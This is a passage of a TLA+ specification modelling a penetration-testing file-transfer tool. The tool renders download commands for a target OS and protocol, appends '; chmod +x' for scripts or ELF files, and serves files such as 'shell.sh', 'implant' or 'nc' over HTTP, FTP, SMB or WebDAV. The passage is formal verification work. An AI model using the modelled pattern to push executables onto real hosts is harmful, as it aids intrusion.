                                   locals.command_type, <<>>))
    /\ UNCHANGED <<added, call, options, config, srv, fs, genVars, certVars>>

\* main, lines 160-163: get_commands; none: an error is logged, exit 1
MainGetCommands ==
    /\ pc = "get_commands"
    /\ LET cmds == get_commands(commands, locals.target_os, locals.command_type,
                                locals.protocol) IN
       IF cmds = <<>>
       THEN /\ pc' = "exited"
            /\ out' = [out EXCEPT !.errors = Append(@, "No commands found"),
                                  !.exit_code = 1]
            /\ locals' = locals
       ELSE /\ pc' = "generate_command_tuples"
            /\ locals' = [locals EXCEPT !.commands = cmds]
            /\ out' = out
    /\ UNCHANGED <<regVars, options, config, srv, fs, genVars, certVars>>

\* the (notes, command) tuples of generate_command_tuples, given needs_chmod
CommandTuples(cmds, ctx, target_os, output_file, needs_chmod) ==
    [i \in DOMAIN cmds |->
        LET command == SimpleCommand_generate(cmds[i].template, ctx).val IN
        <<cmds[i].notes,
          IF target_os = "linux" /\ needs_chmod
          THEN command \o <<"; chmod +x ">> \o output_file
          ELSE command>>]

\* generate_command_tuples: on linux, if the input file (as given, so
\* relative to the working directory) is a file, is_elf_or_shell decides
\* needs_chmod; every command is generated; a generate() that raises ends
\* the run
GenerateCommandTuples ==
    /\ pc = "generate_command_tuples"
    /\ \E st \in FileStates :
        /\ IF locals.target_os = "linux" THEN Looks(locals.input_file, st)
           ELSE st = CHOOSE x \in FileStates : TRUE
        /\ fs' = IF locals.target_os = "linux" THEN Looked(locals.input_file, st) ELSE fs
        /\ LET needs_chmod == /\ locals.target_os = "linux"
                              /\ isfile(st)
                              /\ is_elf_or_shell(locals.input_file, st)
               raises == \E i \in DOMAIN locals.commands :
                            ~SimpleCommand_generate(locals.commands[i].template, context).ok
           IN IF raises
              THEN /\ Crash("KeyError")
                   /\ locals' = locals
              ELSE /\ locals' = [locals EXCEPT
                          !.needs_chmod = needs_chmod,
                          !.command_tuples = CommandTuples(locals.commands, context,
                              locals.target_os, locals.output_file, needs_chmod)]
                   /\ pc' = "display_commands"
                   /\ out' = out
    /\ UNCHANGED <<regVars, options, config, srv, genVars, certVars>>

\* ui.display_commands: every command, numbered from 1
DisplayCommands ==
    /\ pc = "display_commands"
    /\ out' = [out EXCEPT !.displayed = locals.command_tuples]
    /\ pc' = "copy"
    /\ UNCHANGED <<regVars, options, locals, config, srv, fs, genVars, certVars>>

\* a slip of main: the last command is copied
Copy_Last ==
    /\ pc = "copy"
    /\ out' = [out EXCEPT !.clipboard = locals.command_tuples[Len(locals.command_tuples)][2],
                          !.copied = TRUE]
    /\ pc' = "server_config"
    /\ UNCHANGED <<regVars, options, locals, config, srv, fs, genVars, certVars>>

\* copy(command_tuples[0][1]); pyperclip raises PyperclipException where the
\* system has no copy mechanism, which nothing catches
Copy ==
    /\ pc = "copy"
    /\ \/ /\ out' = [out EXCEPT !.clipboard = locals.command_tuples[1][2], !.copied = TRUE]
          /\ pc' = "server_config"
       \/ Crash("PyperclipException")
    /\ UNCHANGED <<regVars, options, locals, config, srv, fs, genVars, certVars>>

\* main, lines 174-180: ServerConfig; int(lport) raises ValueError on a port
\* that is no number, which nothing catches
MakeServerConfig ==
    /\ pc = "server_config"
    /\ IF IntOf(locals.lport) < 0
       THEN /\ Crash("ValueError")
            /\ UNCHANGED <<config, srv>>
       ELSE /\ config' = [host |-> locals.lhost,
                          port |-> IntOf(locals.lport),
                          directory |-> IF dirname(locals.input_file) = NoPath
                                        THEN getcwd
                                        ELSE dirname(locals.input_file),
                          input_file |-> locals.input_file,
                          protocol |-> locals.protocol]
            /\ srv' = [srv EXCEPT !.caller = "main"]
            /\ pc' = "serve"
            /\ out' = out
    /\ UNCHANGED <<regVars, options, locals, fs, genVars, certVars>>

(***************************************************************************)
(* server.py: FileServer.                                                  *)
(***************************************************************************)
cert_path == Path(TRUE, <<"home", "op", ".config", "uberfile">>, <<"cert.pem">>)
key_path == Path(TRUE, <<"home", "op", ".config", "uberfile">>, <<"key.pem">>)

PlainFile == [kind |-> "file", readable |-> TRUE, head |-> "other"]
Absent == [kind |-> "absent", readable |-> FALSE, head |-> "other"]

\* validate_file: the path it checks
full_path ==
    IF ~isabs(config.input_file)
    THEN join(config.directory, config.input_file)
    ELSE config.input_file

\* validate_file on what the look at full_path found: None when the file is
\* valid, else the error
validate_file(st) ==
    IF ~exists(st) THEN "Input file not found"
    ELSE IF ~isfile(st) THEN "Path exists but is not a file"
    ELSE IF ~access_R_OK(st) THEN "File exists but is not readable"
    ELSE None

\* a slip of serve: the result of validate_file is not looked at
ServeValidated_Always(error) == TRUE

\* serve, line 295: is_valid
ServeValidated(error) == error = None

\* serve() returns result, after logging error if there is one
Return(result, error) ==
    /\ pc' = "serve_returned"
    /\ srv' = [srv EXCEPT !.result = result,
                          !.state = IF @ = "serving" THEN "stopped" ELSE @]
    /\ out' = IF error = None THEN out ELSE [out EXCEPT !.errors = Append(@, error)]

\* the same, for a server that failed
Fail(how, error) ==
    /\ pc' = "serve_returned"
    /\ srv' = [srv EXCEPT !.result = "False", !.failed = how,
                          !.state = IF @ = "serving" THEN "stopped" ELSE @]
    /\ out' = [out EXCEPT !.errors = Append(@, error)]

\* serve, lines 294-297: validate_file; a file that is not valid is logged
\* and serve returns False
ServeValidate ==
    /\ pc = "serve"
    /\ \E st \in FileStates :
        /\ Looks(full_path, st)
        /\ fs' = Looked(full_path, st)
        /\ IF ServeValidated(validate_file(st))
           THEN /\ srv' = [srv EXCEPT !.validated = TRUE]
                /\ pc' = "dispatch"
                /\ out' = out
           ELSE Return("False", validate_file(st))
    /\ UNCHANGED <<regVars, options, locals, config, genVars, certVars>>

\* a slip of serve: the handler is looked up by the protocol as given
protocol_handlers_NoUpper(protocol) ==
    CASE protocol = "HTTP"    -> "serve_http"
      [] protocol = "HTTPS"   -> "serve_https"
      [] protocol = "FTP"     -> "serve_ftp"
      [] protocol = "FTPS"    -> "serve_ftps"
      [] protocol = "SMB"     -> "serve_smb"
      [] protocol = "SCP"     -> "serve_scp"
      [] protocol = "WEBDAV"  -> "serve_webdav"
      [] protocol = "WEBDAVS" -> "serve_webdav"
      [] OTHER -> None

\* serve, lines 299-308: protocol_handlers.get(protocol.upper())
protocol_handlers(protocol) ==
    CASE Upper(protocol) = "HTTP"    -> "serve_http"
      [] Upper(protocol) = "HTTPS"   -> "serve_https"
      [] Upper(protocol) = "FTP"     -> "serve_ftp"
      [] Upper(protocol) = "FTPS"    -> "serve_ftps"
      [] Upper(protocol) = "SMB"     -> "serve_smb"
      [] Upper(protocol) = "SCP"     -> "serve_scp"
      [] Upper(protocol) = "WEBDAV"  -> "serve_webdav"
      [] Upper(protocol) = "WEBDAVS" -> "serve_webdav"
      [] OTHER -> None

\* serve, lines 310-316: no handler is an error and False; else the handler
\* is called
Dispatch ==
    /\ pc = "dispatch"
    /\ LET handler == protocol_handlers(config.protocol) IN
       IF handler = None
       THEN Return("False", "Unsupported protocol")
       ELSE /\ srv' = [srv EXCEPT !.handler = handler]
            /\ pc' = handler
            /\ out' = out
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* a slip of serve: no except clause for KeyboardInterrupt, which then ends
\* the process
ServeCatches_NoInterrupt(exception) == exception \in {"Exception"}

\* serve, lines 317-322: what serve catches of the exceptions that leave the
\* handler
ServeCatches(exception) == exception \in {"KeyboardInterrupt", "Exception"}

\* the exception leaves the handler
Propagate(exception, how) ==
    IF ~ServeCatches(exception)
    THEN /\ pc' = "exited"
         /\ out' = [out EXCEPT !.exit_code = 1, !.exception = exception]
         /\ srv' = [srv EXCEPT !.interrupted = (exception = "KeyboardInterrupt"),
                               !.state = IF @ = "serving" THEN "stopped" ELSE @]
    ELSE IF exception = "KeyboardInterrupt"
    THEN /\ pc' = "serve_returned"
         /\ srv' = [srv EXCEPT !.result = "True", !.interrupted = TRUE,
                               !.state = IF @ = "serving" THEN "stopped" ELSE @]
         /\ out' = out
    ELSE Fail(how, "Server error")

\* a certificate or key file that openssl has written in this run
FreshPem == [kind |-> "file", readable |-> TRUE, head |-> "pem"]

\* a slip of the handlers: only the certificate is looked for
PairCached_CertOnly(cert, key) == exists(cert)

\* server.py lines 93, 203 and 272: os.path.exists(self.cert_path) and
\* os.path.exists(self.key_path)
PairCached(cert, key) == exists(cert) /\ exists(key)

\* generate_self_signed_cert is called when the certificate or the key is
\* not there: "cached" (both exist), "generated", "CalledProcessError"
\* (openssl failed: logged, generate returns False and so does the handler)
\* or "OSError" (openssl cannot be run or the directory cannot be made: the
\* exception leaves generate_self_signed_cert and the handler's own except
\* clause logs it).  srv.cache keeps what the existence check found.
Certificate(next, error) ==
    \E cert \in {Absent, PlainFile}, key \in {Absent, PlainFile} :
        /\ Looks(cert_path, cert)
        /\ Looks(key_path, key)
        /\ IF PairCached(cert, key)
           THEN /\ fs' = (cert_path :> cert) @@ (key_path :> key) @@ fs
                /\ pc' = next
                /\ srv' = [srv EXCEPT !.cache = "present"]
                /\ out' = out
           ELSE \/ /\ fs' = (cert_path :> FreshPem) @@ (key_path :> FreshPem) @@ fs
                   /\ srv' = [srv EXCEPT !.cert_runs = @ + 1, !.cache = "missing"]
                   /\ pc' = next
                   /\ out' = out
                \/ /\ fs' = (cert_path :> cert) @@ (key_path :> key) @@ fs
                   /\ pc' = "serve_returned"
                   /\ srv' = [srv EXCEPT !.cert_runs = @ + 1, !.result = "False",
                                         !.failed = "openssl", !.cache = "missing"]
                   /\ out' = [out EXCEPT !.errors = Append(@, "Failed to generate certificate")]
                \/ /\ fs' = (cert_path :> cert) @@ (key_path :> key) @@ fs
                   /\ pc' = "serve_returned"
                   /\ srv' = [srv EXCEPT !.cert_runs = @ + 1, !.result = "False",
                                         !.failed = "openssl", !.cache = "missing"]
                   /\ out' = [out EXCEPT !.errors = Append(@, error)]

\* the server object is made and bound, or doing so raises, which the
\* handler's except clause logs
Start(error) ==
    \/ /\ srv' = [srv EXCEPT !.state = "serving"]
       /\ pc' = "serve_forever"
       /\ out' = out
    \/ Fail("start", error)

\* serve_http, lines 74-82
ServeHttp ==
    /\ pc = "serve_http"
    /\ Start("HTTP server error")
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* serve_https, lines 92-96
ServeHttpsCertificate ==
    /\ pc = "serve_https"
    /\ Certificate("https_start", "HTTPS server error")
    /\ UNCHANGED <<regVars, options, locals, config, genVars, certVars>>

\* serve_https, lines 98-112
ServeHttpsStart ==
    /\ pc = "https_start"
    /\ Start("HTTPS server error")
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* a slip of the handlers: a pip install that failed is run a second time
Pip_Again(next, inside, error) ==
    \/ /\ pc' = next
       /\ UNCHANGED <<srv, out>>
    \/ /\ pc' = next
       /\ srv' = [srv EXCEPT !.installs = @ + 1]
       /\ out' = out
    \/ /\ pc' = next
       /\ srv' = [srv EXCEPT !.installs = @ + 2]
       /\ out' = out
    \/ /\ pc' = "serve_returned"
       /\ srv' = [srv EXCEPT !.installs = @ + 2, !.result = "False", !.failed = "pip"]
       /\ out' = [out EXCEPT !.errors = Append(@, error)]
    \/ IF inside THEN Fail("pip", error) ELSE Propagate("Exception", "pip")

\* pip show, and pip install when pip show finds nothing.  inside says
\* whether the calls sit in the handler's try block with except Exception
\* (serve_ftps, serve_webdav) or not (serve_ftp, whose install has an except
\* clause of its own and whose other exceptions leave the handler)
Pip(next, inside, error) ==
    \/ /\ pc' = next
       /\ UNCHANGED <<srv, out>>
    \/ /\ pc' = next
       /\ srv' = [srv EXCEPT !.installs = @ + 1]
       /\ out' = out
    \/ /\ pc' = "serve_returned"
       /\ srv' = [srv EXCEPT !.installs = @ + 1, !.result = "False", !.failed = "pip"]
       /\ out' = [out EXCEPT !.errors = Append(@, error)]
    \/ IF inside THEN Fail("pip", error) ELSE Propagate("Exception", "pip")

\* serve_ftp, lines 123-132
ServeFtpPip ==
    /\ pc = "serve_ftp"
    /\ Pip("ftp_start", FALSE, "Failed to install pyftpdlib")
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* serve_ftp, lines 134-148
ServeFtpStart ==
    /\ pc = "ftp_start"
    /\ Start("FTP server error")
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* serve_ftps, lines 202-206
ServeFtpsCertificate ==
    /\ pc = "serve_ftps"
    /\ Certificate("ftps_pip", "FTPS server error")
    /\ UNCHANGED <<regVars, options, locals, config, genVars, certVars>>

\* serve_ftps, lines 208-213
ServeFtpsPip ==
    /\ pc = "ftps_pip"
    /\ Pip("ftps_start", TRUE, "FTPS server error")
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* serve_ftps, lines 215-233
ServeFtpsStart ==
    /\ pc = "ftps_start"
    /\ Start("FTPS server error")
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* serve_webdav, lines 246-250
ServeWebdavPip ==
    /\ pc = "serve_webdav"
    /\ Pip(IF Upper(config.protocol) = "WEBDAVS" THEN "webdav_cert" ELSE "webdav_start",
           TRUE, "WebDAV server error")
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* serve_webdav, lines 265-274
ServeWebdavCertificate ==
    /\ pc = "webdav_cert"
    /\ Certificate("webdav_start", "WebDAV server error")
    /\ UNCHANGED <<regVars, options, locals, config, genVars, certVars>>

\* serve_webdav, lines 276-283
ServeWebdavStart ==
    /\ pc = "webdav_start"
    /\ Start("WebDAV server error")
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* the error the handler's own except clause logs
HandlerError(handler) ==
    CASE handler = "serve_http" -> "HTTP server error"
      [] handler = "serve_https" -> "HTTPS server error"
      [] handler = "serve_ftp" -> "FTP server error"
      [] handler = "serve_ftps" -> "FTPS server error"
      [] handler = "serve_webdav" -> "WebDAV server error"
      [] OTHER -> "SMB server error"

\* serve_forever() / run_server() blocks (lines 83, 114, 150, 235, 285) until
\* the server raises, which the handler's except Exception logs, or the
\* operator interrupts it.  KeyboardInterrupt is no Exception: it leaves the
\* handler; the FTP and WebDAV libraries may also catch it themselves and
\* return, and the handler then returns True.
ServeForever ==
    /\ pc = "serve_forever"
    /\ \/ Fail("serving", HandlerError(srv.handler))
       \/ Propagate("KeyboardInterrupt", "interrupt")
       \/ /\ srv.handler \in {"serve_ftp", "serve_ftps", "serve_webdav"}
          /\ pc' = "serve_returned"
          /\ srv' = [srv EXCEPT !.result = "True", !.interrupted = TRUE,
                                !.state = "stopped"]
          /\ out' = out
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* serve_smb, lines 159-176: Popen starts smbserver.py, or raises
ServeSmbPopen ==
    /\ pc = "serve_smb"
    /\ \/ /\ srv' = [srv EXCEPT !.state = "serving"]
          /\ pc' = "smb_wait"
          /\ out' = out
       \/ Fail("start", "SMB server error")
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* serve_smb, lines 177-182: process.wait() returns when smbserver.py ends,
\* whatever its exit status, and serve_smb returns True; a KeyboardInterrupt
\* terminates the process and serve_smb returns True
ServeSmbWait ==
    /\ pc = "smb_wait"
    /\ \/ \E status \in {0, 1} :
            /\ pc' = "serve_returned"
            /\ srv' = [srv EXCEPT !.result = "True", !.state = "stopped",
                                  !.failed = IF status = 0 THEN None ELSE "exit status"]
            /\ out' = out
       \/ /\ pc' = "serve_returned"
          /\ srv' = [srv EXCEPT !.result = "True", !.state = "stopped",
                                !.interrupted = TRUE]
          /\ out' = out
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* serve_scp: instructions are logged, no server is started
ServeScp ==
    /\ pc = "serve_scp"
    /\ Return("True", None)
    /\ UNCHANGED <<regVars, options, locals, config, fs, genVars, certVars>>

\* main, lines 183-184: sys.exit(1) if serve() returned False, else main
\* returns and the process ends with status 0; a caller of FileServer other
\* than main just has the result
ServeReturned ==
    /\ pc = "serve_returned"
    /\ IF srv.caller = "main"
       THEN Exit(IF srv.result = "False" THEN 1 ELSE 0)
       ELSE /\ pc' = "returned"
            /\ out' = out
    /\ UNCHANGED <<regVars, options, locals, config, srv, fs, genVars, certVars>>

(***************************************************************************)
(* generate() as a pure function: the inputs are drawn at Init, the one    *)
(* action applies it.                                                      *)
(***************************************************************************)
\* the pieces generated templates are made of: the five placeholders, plain
\* text, a lone brace of either kind
Segments ==
    {Placeholder(n) : n \in StandardNames \cup {"PROTO"}}
    \cup {<<"x">>, <<"{">>, <<"}">>}

RECURSIVE TemplatesOf(_)
TemplatesOf(n) ==
    IF n = 0 THEN {<<>>}
    ELSE LET shorter == TemplatesOf(n - 1) IN
         shorter \cup {t \o s : t \in shorter, s \in Segments}

GenTemplates == TemplatesOf(MaxSegs) \cup {CurlTemplate, ScpTemplate}

GenProtocols == {"HTTP", "HTTPS", "FTP", "SMB", "SCP"}

\* context values; one host and one output file are themselves placeholder
\* tokens
GenContexts ==
    {CommandContext(lhost, <<"80">>, <<"shell", ".sh">>, output_file, protocol) :
        lhost \in {<<"10.0.0.1">>, Placeholder("LPORT")},
        output_file \in {<<"/tmp/", "shell", ".sh">>, Placeholder("PROTO")},
        protocol \in GenProtocols}

\* the variables of a part of the model that a specification leaves alone
IdleGenerate ==
    /\ gen_template = <<>>
    /\ gen_context = CommandContext(<<>>, <<>>, <<>>, <<>>, "HTTP")
    /\ gen_result = Pending

NoCall ==
    [op |-> None, os_type |-> None, command_type |-> None, protocol |-> None,
     raised |-> None, result |-> <<>>]

IdleRegistry ==
    /\ commands = CommandRegistry_init
    /\ added = <<>>
    /\ call = NoCall

\* no concurrent run, no cached pair
IdleCert ==
    /\ invocations = <<>>
    /\ pem = [cert |-> [there |-> FALSE, by |-> 0], key |-> [there |-> FALSE, by |-> 0]]

IdleRun ==
    /\ pc = "idle"
    /\ options = NoOptions
    /\ locals = NoLocals
    /\ out = NoOutput
    /\ config = NoConfig
    /\ srv = NoServer
    /\ fs = NoLooks

InitGenerate ==
    /\ IdleCert
    /\ gen_template \in GenTemplates
    /\ gen_context \in GenContexts
    /\ gen_result = Pending
    /\ IdleRegistry
    /\ IdleRun

Generate ==
    /\ gen_result = Pending
    /\ gen_result' = SimpleCommand_generate(gen_template, gen_context)
    /\ UNCHANGED <<gen_template, gen_context, regVars, runVars, certVars>>

NextGenerate == Generate

SpecGenerate == InitGenerate /\ [][NextGenerate]_vars

(***************************************************************************)
(* What the rendering claims compare generate() with: the template read    *)
(* left to right, each placeholder token of sub replaced by its value and  *)
(* everything else copied.                                                 *)
(***************************************************************************)
RECURSIVE Substituted(_, _)
Substituted(t, sub) ==
    IF t = <<>> THEN <<>>
    ELSE IF Len(t) >= 3 /\ t[1] = "{" /\ t[3] = "}" /\ t[2] \in DOMAIN sub
         THEN sub[t[2]] \o Substituted(SubSeq(t, 4, Len(t)), sub)
         ELSE <<t[1]>> \o Substituted(Tail(t), sub)

\* the braces of t occur only in tokens {n} with n in names
RECURSIVE BracesOnlyIn(_, _)
BracesOnlyIn(t, names) ==
    IF t = <<>> THEN TRUE
    ELSE IF t[1] = "{"
         THEN /\ Len(t) >= 3
              /\ t[2] \in names
              /\ t[3] = "}"
              /\ BracesOnlyIn(SubSeq(t, 4, Len(t)), names)
         ELSE t[1] # "}" /\ BracesOnlyIn(Tail(t), names)

WithProto(ctx) ==
    [n \in StandardNames \cup {"PROTO"} |->
        IF n = "PROTO" THEN Str(Lower(ctx.protocol))
        ELSE FormatKwargs(ctx)[n]]

GenDone == gen_result # Pending

SchemeProtocol == gen_context.protocol \in {"HTTP", "HTTPS", "FTP", "SMB"}

C4_AsStated ==
    /\ (GenDone /\ gen_context.protocol = "SCP"
            /\ BracesOnlyIn(gen_template, StandardNames \cup {"PROTO"})) =>
            gen_result = Returned(Substituted(gen_template, FormatKwargs(gen_context)))
    /\ \A i \in DOMAIN DefaultCatalog :
            "SCP" \in DefaultCatalog[i][3].protocols =>
                Replace(DefaultCatalog[i][3].template, Placeholder("PROTO"), <<>>)
                    = DefaultCatalog[i][3].template

(***************************************************************************)
(* The registry under arbitrary calls: add_command with any operating      *)
(* system, command type and command, and the two queries.                  *)
(***************************************************************************)
RegOS == {"windows", "linux", "macos"}
RegTypes == {"curl", "ftp"}
RegCommands ==
    {Command_init("a", <<"a ">> \o Placeholder("LHOST"), None, {"HTTP", "HTTPS"}),
     Command_init("b", <<"b ">> \o Placeholder("LHOST"), "In memory", {"FTP"}),
     Command_init("c", <<"c ">> \o Placeholder("LHOST"), None, {})}
QueryTypes == RegTypes \cup {"wget"}
QueryProtocols == {"HTTP", "FTP", "SCP"}

InitRegistry ==
    /\ IdleCert
    /\ IdleRegistry
    /\ IdleGenerate
    /\ IdleRun

AddCommand ==
    /\ Len(added) < MaxAdds
    /\ \E os_type \in RegOS, command_type \in RegTypes, command \in RegCommands :
        LET r == add_command(commands, os_type, command_type, command) IN
        /\ commands' = r.registry
        /\ added' = IF r.raised = None
                    THEN Append(added, <<os_type, command_type, command>>)
                    ELSE added
        /\ call' = [op |-> "add_command", os_type |-> os_type,
                    command_type |-> command_type, protocol |-> None,
                    raised |-> r.raised, result |-> <<command>>]
    /\ UNCHANGED <<genVars, runVars, certVars>>

GetCommands ==
    /\ \E os_type \in RegOS, command_type \in QueryTypes, protocol \in QueryProtocols :
        call' = [op |-> "get_commands", os_type |-> os_type,
                 command_type |-> command_type, protocol |-> protocol,
                 raised |-> None,
                 result |-> get_commands(commands, os_type, command_type, protocol)]
    /\ UNCHANGED <<commands, added, genVars, runVars, certVars>>

GetCommandTypes ==
    /\ \E os_type \in RegOS, protocol \in QueryProtocols :
        call' = [op |-> "get_command_types", os_type |-> os_type,
                 command_type |-> None, protocol |-> protocol,
                 raised |-> None,
                 result |-> get_command_types(commands, os_type, protocol)]
    /\ UNCHANGED <<commands, added, genVars, runVars, certVars>>

NextRegistry == AddCommand \/ GetCommands \/ GetCommandTypes

SpecRegistry == InitRegistry /\ [][NextRegistry]_vars

\* the add_command calls of the history made for (os_type, command_type)
AddedUnder(os_type, command_type) ==
    LET Under(a) == a[1] = os_type /\ a[2] = command_type
        sel == SelectSeq(added, Under)
    IN [i \in DOMAIN sel |-> sel[i][3]]

\* C2: get_commands returns exactly the templates registered under
\* (os, command_type) whose supported protocols contain the protocol, in
\* insertion order; no returned template lacks the protocol; the result is
\* the empty list, not an error, when nothing matches or the os or command
\* type is unknown; get_commands('linux', 'ftp', 'HTTP') is empty in the
\* default catalog.
C2_GetCommands ==
    /\ call.op = "get_commands" =>
        LET all == AddedUnder(call.os_type, call.command_type)
            Has(cmd) == call.protocol \in cmd.protocols
        IN /\ call.raised = None
           /\ call.result = SelectSeq(all, Has)
           /\ \A i \in DOMAIN call.result : call.protocol \in call.result[i].protocols
           /\ (call.os_type \notin {"windows", "linux"}) => call.result = <<>>
    /\ get_commands(create_default_registry, "linux", "ftp", "HTTP") = <<>>
    /\ Len(get_commands(create_default_registry, "linux", "ftp", "FTP")) = 1

C2_Witness ==
    /\ call.op = "get_commands"
    /\ Len(call.result) = 2
    /\ call.result[1] # call.result[2]
    /\ Len(AddedUnder(call.os_type, call.command_type)) = 3

\* C3: get_command_types returns exactly the command types under os with at
\* least one registered template that supports the protocol, each once, and
\* nothing when no template under os supports the protocol.
C3_GetCommandTypes ==
    call.op = "get_command_types" =>
        LET supported ==
                {added[i][2] : i \in {j \in DOMAIN added :
                    /\ added[j][1] = call.os_type
                    /\ call.protocol \in added[j][3].protocols}}
        IN /\ call.raised = None
           /\ {call.result[i] : i \in DOMAIN call.result} = supported
           /\ Len(call.result) = Cardinality(supported)

C3_Witness ==
    /\ call.op = "get_command_types"
    /\ Len(call.result) = 1
    /\ Cardinality({added[i][2] : i \in {j \in DOMAIN added :
                        added[j][1] = call.os_type}}) = 2

(***************************************************************************)
(* A run: main() with any command line, or FileServer.serve() called with  *)
(* a configuration of its own (the protocols FTPS, WEBDAV and WEBDAVS have *)
(* handlers but cannot be chosen from the command line).                   *)
(***************************************************************************)
Options ==
    [LIST : BOOLEAN,
     TARGETOS : {None, "linux"},
     LHOST : {<<"10.0.0.1">>},
     PROTOCOL : {None, "HTTP"},
     LPORT : {<<>>, <<"http">>},
     TYPE : {None, "curl", "rsync"},
     INPUTFOLDER : {getcwd, Path(TRUE, <<"srv", "files">>, <<>>)},
     INPUTFILE : {NoPath, Path(FALSE, <<>>, <<"shell", ".sh">>),
                  Path(FALSE, <<"sub">>, <<"implant">>)},
     OUTPUTFILE : {<<>>, <<"/tmp/", "shell", ".sh">>}]

ApiConfigs ==
    [host : {<<"10.0.0.1">>}, port : {8080}, directory : {getcwd},
     input_file : {Path(FALSE, <<>>, <<"nc">>)},
     protocol : {"FTPS", "WEBDAV", "WEBDAVS", "https", "TELNET"}]

InitRun ==
    /\ IdleCert
    /\ IdleGenerate
    /\ IdleRegistry
    /\ locals = NoLocals
    /\ out = NoOutput
    /\ fs = NoLooks
    /\ \/ /\ pc = "main"
          /\ options \in Options
          /\ config = NoConfig
          /\ srv = NoServer
       \/ /\ pc = "serve"
          /\ options = NoOptions
          /\ config \in ApiConfigs
          /\ srv = [NoServer EXCEPT !.caller = "FileServer"]

NextRun ==
    \/ CreateDefaultRegistry
    \/ ListCommands
    \/ GetTargetOs
    \/ GetLhost
    \/ GetProtocol
    \/ GetLport
    \/ GetCommandType
    \/ GetInputFile
    \/ GetOutputFile
    \/ MainGetCommands
    \/ GenerateCommandTuples
    \/ DisplayCommands
    \/ Copy
    \/ MakeServerConfig
    \/ ServeValidate
    \/ Dispatch
    \/ ServeHttp
    \/ ServeHttpsCertificate
    \/ ServeHttpsStart
    \/ ServeFtpPip
    \/ ServeFtpStart
    \/ ServeFtpsCertificate
    \/ ServeFtpsPip
    \/ ServeFtpsStart
    \/ ServeWebdavPip
    \/ ServeWebdavCertificate
    \/ ServeWebdavStart
    \/ ServeForever
    \/ ServeSmbPopen
    \/ ServeSmbWait
    \/ ServeScp
    \/ ServeReturned

SpecRun == InitRun /\ [][NextRun]_vars

(***************************************************************************)
(* Properties of a run.                                                    *)
(***************************************************************************)
\* what the commands of the run render to before any suffix
Rendered(i) == SimpleCommand_generate(locals.commands[i].template, context).val

ChmodSuffix == <<"; chmod +x ">> \o locals.output_file

\* what the operating system has at the input file of the run
InputState == fs[Resolve(locals.input_file)]

\* the three conditions of the heuristic, as facts about the file
IsElf == InputState.kind = "file" /\ InputState.head = "elf"
IsShebang == InputState.kind = "file" /\ InputState.head = "shebang"
IsDotSh == EndsWith(basename(locals.input_file), <<".sh">>)

\* every command of the run is the rendered template, with the chmod suffix
\* exactly if suffixed
Commands(suffixed) ==
    \A i \in DOMAIN locals.command_tuples :
        locals.command_tuples[i][2] =
            IF suffixed THEN Rendered(i) \o ChmodSuffix ELSE Rendered(i)

\* C5 as stated: once the commands of a run are generated, every command has
\* the suffix '; chmod +x <output_file>' if the target is linux and the input
\* file starts with the ELF magic, or its first line starts with '#!', or its
\* name ends in '.sh'; otherwise (and always on windows) none has it.
C5_AsStated ==
    locals.command_tuples # <<>> =>
        Commands(locals.target_os = "linux" /\ (IsElf \/ IsShebang \/ IsDotSh))

\* C5, amended: the suffix is on every command if the target is linux, the
\* input file exists as a regular file that can be opened for reading, and
\* one of the three conditions holds; otherwise (and always on windows) it
\* is on none.
C5_Chmod ==
    locals.command_tuples # <<>> =>
        Commands(/\ locals.target_os = "linux"
                 /\ InputState.kind = "file"
                 /\ InputState.readable
                 /\ (IsElf \/ IsShebang \/ IsDotSh))

\* a linux run with the readable text file shell.sh and output /tmp/shell.sh
\* whose first command ends in '; chmod +x /tmp/shell.sh'
C5_Witness ==
    /\ locals.command_tuples # <<>>
    /\ locals.target_os = "linux"
    /\ locals.input_file = Path(FALSE, <<>>, <<"shell", ".sh">>)
    /\ locals.output_file = <<"/tmp/", "shell", ".sh">>
    /\ InputState = [kind |-> "file", readable |-> TRUE, head |-> "other"]
    /\ EndsWith(locals.command_tuples[1][2], <<"; chmod +x ", "/tmp/", "shell", ".sh">>)

\* the default catalog has a template of the command type for the OS that
\* supports the protocol
CatalogHas(os_type, command_type, protocol) ==
    \E i \in DOMAIN DefaultCatalog :
        /\ DefaultCatalog[i][1] = os_type
        /\ DefaultCatalog[i][2] = command_type
        /\ protocol \in DefaultCatalog[i][3].protocols

CatalogTypes == {DefaultCatalog[i][2] : i \in DOMAIN DefaultCatalog}

\* the chosen OS and protocol have no command type
NoTypeAvailable ==
    /\ locals.protocol # None
    /\ \A t \in CatalogTypes : ~CatalogHas(locals.target_os, t, locals.protocol)

\* the chosen command type has no template for the chosen protocol
NoTemplate ==
    /\ locals.command_type # None
    /\ ~CatalogHas(locals.target_os, locals.command_type, locals.protocol)

\* C6: in a run whose OS and protocol have no command type, or whose command
\* type has no template for the protocol, no command is rendered, displayed
\* or copied, FileServer is never configured or called, the run gets no
\* further than get_commands, and where it has ended the exit status is not 0.
C6_NoCommands ==
    (NoTypeAvailable \/ NoTemplate) =>
        /\ locals.command_tuples = <<>>
        /\ out.displayed = <<>>
        /\ ~out.copied
        /\ out.clipboard = <<>>
        /\ config = NoConfig
        /\ srv = NoServer
        /\ pc \in {"get_lport", "get_command_type", "get_input_file",
                   "get_output_file", "get_commands", "exited"}
        /\ (pc = "exited" => out.exit_code > 0)

\* a run on a command type given on the command line that has no template
\* for the protocol, though other types have: it has ended with status 1
\* after "No commands found"
C6_Witness ==
    /\ pc = "exited"
    /\ NoTemplate
    /\ ~NoTypeAvailable
    /\ out.errors = <<"No commands found">>
    /\ out.exit_code = 1

\* C7 as stated: a run with --list ends with exit status 0, having printed
\* the windows header and the linux header and every command type of the
\* default catalog, and no server was started.
C7_AsStated ==
    (options.LIST /\ pc = "exited") =>
        /\ out.exit_code = 0
